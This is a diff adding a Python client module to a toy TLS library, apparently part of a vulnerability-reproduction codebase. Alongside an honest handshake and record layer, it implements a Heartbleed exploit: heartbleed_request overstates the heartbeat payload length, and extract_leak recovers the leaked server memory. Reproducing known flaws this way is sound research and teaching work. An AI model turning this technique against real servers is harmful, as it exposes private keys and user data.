@@ -1,0 +1,92 @@
+"""minissl client side — runs untrusted (the attacker's vantage point).
+
+The client implements the honest protocol plus the Heartbleed exploit:
+:func:`heartbleed_request` crafts a heartbeat whose claimed payload
+length exceeds what is actually sent, and :func:`extract_leak` pulls the
+over-read bytes out of the response.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from repro.apps.minissl import records
+from repro.apps.minissl.handshake import (HandshakeResult, ClientHello,
+                                          client_complete, finished_mac)
+from repro.crypto.gcm import AesGcm
+from repro.errors import ChannelError
+
+
+@dataclass
+class SslClient:
+    psk: bytes
+    nonce: bytes
+    keys: HandshakeResult | None = None
+    _send_seq: int = 0
+    _recv_seq: int = 0
+    _hello_raw: bytes = b""
+
+    def hello(self, versions=None, ciphers=None) -> bytes:
+        kwargs = {}
+        if versions is not None:
+            kwargs["versions"] = tuple(versions)
+        if ciphers is not None:
+            kwargs["ciphers"] = tuple(ciphers)
+        self._hello_raw = ClientHello(self.nonce, **kwargs).encode()
+        return self._hello_raw
+
+    def finish(self, server_response: bytes) -> bytes:
+        """Consume ServerHello||Finished; returns the client Finished."""
+        server_hello, server_tag = server_response[:-32], \
+            server_response[-32:]
+        self.keys = client_complete(self.psk, self._hello_raw,
+                                    server_hello)
+        from repro.apps.minissl.handshake import verify_finished
+        if not verify_finished(self.keys, "server", server_tag):
+            raise ChannelError("server Finished MAC invalid")
+        return finished_mac(self.keys, "client")
+
+    # ------------------------------------------------------------- records
+    def seal_record(self, content_type: int, plaintext: bytes) -> bytes:
+        assert self.keys is not None
+        gcm = AesGcm(self.keys.client_write_key)
+        nonce = self._send_seq.to_bytes(12, "big")
+        self._send_seq += 1
+        return records.Record(content_type, self.keys.version,
+                              gcm.seal(nonce, plaintext)).encode()
+
+    def open_record(self, raw: bytes) -> records.Record:
+        assert self.keys is not None
+        record, rest = records.decode_record(raw)
+        if rest:
+            raise ChannelError("trailing bytes after record")
+        gcm = AesGcm(self.keys.server_write_key)
+        nonce = self._recv_seq.to_bytes(12, "big")
+        self._recv_seq += 1
+        return records.Record(record.content_type, record.version,
+                              gcm.open(nonce, record.payload))
+
+    # ------------------------------------------------------------ heartbeat
+    def heartbeat_request(self, payload: bytes) -> bytes:
+        """An honest heartbeat (claimed length == actual length)."""
+        return self.seal_record(
+            records.CT_HEARTBEAT,
+            records.encode_heartbeat(records.HB_REQUEST, payload))
+
+    def heartbleed_request(self, payload: bytes,
+                           claimed_length: int) -> bytes:
+        """The exploit: lie about the payload length."""
+        return self.seal_record(
+            records.CT_HEARTBEAT,
+            records.encode_heartbeat(records.HB_REQUEST, payload,
+                                     claimed_length=claimed_length))
+
+    @staticmethod
+    def extract_leak(response_payload: bytes, sent_payload: bytes) -> bytes:
+        """The over-read bytes: everything past what we actually sent."""
+        message_type, claimed, data = records.decode_heartbeat(
+            response_payload)
+        if message_type != records.HB_RESPONSE:
+            raise ChannelError("not a heartbeat response")
+        echoed = data[:claimed]
+        return echoed[len(sent_payload):]
